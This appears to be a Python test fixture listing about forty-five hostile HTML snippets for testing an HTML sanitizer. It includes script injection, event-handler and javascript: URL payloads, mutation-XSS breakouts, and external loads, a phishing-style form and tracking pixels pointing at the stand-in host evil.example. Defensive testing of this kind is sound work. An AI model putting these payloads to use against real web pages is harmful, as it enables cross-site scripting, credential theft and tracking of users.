"""HTML that tries to run something, load something or break out. What runs sets `window.hacked`."""

RUN = "window.hacked=1"

HOSTILE = {
    "script": f"<p>a</p><script>{RUN}</script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "handler": f'<img src=x onerror="{RUN}">',
    "handler on text": f'<p onclick="{RUN}" onmouseover="{RUN}" onfocus="{RUN}" tabindex=1>a</p>',
    "details": f'<details open ontoggle="{RUN}"><summary>a</summary></details>',
    "video": f'<video><source onerror="{RUN}"></video>',
    "javascript link": f'<a href="javascript:{RUN}">a</a>',
    "javascript in capitals": f'<a href=" JaVaScRiPt:{RUN}">a</a>',
    "javascript with control characters": f'<a href="java&#x0A;script&colon;{RUN}">a</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">a</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">a</a>',
    "data base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/></a></svg>',
    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "style": "<style>*{display:none}</style><p style='position:fixed;inset:0'>a</p>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>a",
    "class": '<div class="dialog" id="page">a</div>',
    "iframe": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">a',
    "base": '<base href="https://evil.example/"><a href="/x">a</a>',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">a',
    "form": '<form action="https://evil.example/"><input name=a><button>Sign in</button></form>',
    "tracking": '<img src="https://evil.example/1.gif" width=1 height=1>',
    "background": '<table background="https://evil.example/1.gif"><tr><td>a</td></tr></table>',
    "srcset": '<img srcset="https://evil.example/1.gif 1x"><picture><source srcset=x></picture>',
    "comment": f"<!--[if IE]><script>{RUN}</script><![endif]-->a",
    "comment that ends early": f'<!--><img src=x onerror="{RUN}">-->',
    "unclosed": f'<p>a<img src=x onerror="{RUN}"',
    "attribute that breaks out": f'<p title="</p><img src=x onerror={RUN}>">a</p>',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by title": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "mutation by form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
    ),
    "mutation by annotation": (
        "<math><annotation-xml encoding='text/html'><style>"
        f"<img src=x onerror={RUN}></style></annotation-xml></math>"
    ),
    "mutation by select": f"<select><template><style><!--</style><img src=x onerror={RUN}>-->",
    "mutation by textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    "mutation by xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "mutation by plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "mutation by table": f"<table><svg><td></svg><img src=x onerror={RUN}></table>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;",
    "custom element": f'<x-y is=z onfocus="{RUN}" autofocus tabindex=0>a</x-y>',
    "deep": "<div>" * 600 + f"<img src=x onerror={RUN}>",
}
